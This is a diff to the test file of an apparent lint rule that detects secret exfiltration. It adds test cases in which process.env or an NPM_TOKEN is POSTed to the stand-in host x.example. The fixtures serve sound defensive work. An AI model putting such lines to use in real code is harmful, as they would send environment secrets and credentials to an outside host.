@@ -5,6 +5,8 @@ const N = 'const https = require("https"), os = require("os"), fs = require("fs"
 
 ruleTester(rule, {
   valid: [
+    // A helper given something other than process.
+    "function send({ env }) { fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) }); }\nsend({ env: 'prod' });",
     { name: 'an HTTP client adapter', code: 'const http = require("http"), https = require("https");\nmodule.exports = function httpAdapter(config) {\n  return new Promise((resolve, reject) => {\n    const options = { hostname: config.host, path: config.path, method: config.method, headers: config.headers, auth: config.auth };\n    const transport = config.protocol === "https:" ? https : http;\n    const req = transport.request(options, resolve);\n    req.on("error", reject);\n    if (config.data) req.write(config.data);\n    req.end();\n  });\n};' },
     'const dns = require("dns/promises"), os = require("os");\nawait dns.lookup(os.hostname());',
     'fetch("http://localhost:9000/envelope", { method: "POST", body: JSON.stringify({ a: process.env.SENTRY_AUTH_TOKEN, b: process.env.TEST_SECRET }) });',
@@ -53,6 +55,12 @@ ruleTester(rule, {
     },
   ],
   invalid: [
+    // `process` handed to a local helper that reads its environment.
+    {
+      code: "function send({ env }) {\n  fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) });\n}\nsend(process);",
+      errors: [{ messageId: 'flow', line: 2, column: 3, message: 'the whole environment' }],
+    },
+    { code: "const g = (p) => fetch('https://x.example', { method: 'POST', body: JSON.stringify(p.env) });\ng(process);", errors: [{ messageId: 'flow', line: 1, column: 18 }] },
     // One service's secret sent as data to some other host.
     {
       code: 'const t = process.env.NPM_TOKEN;\nfetch("https://x.example/c", { method: "POST", body: t });',
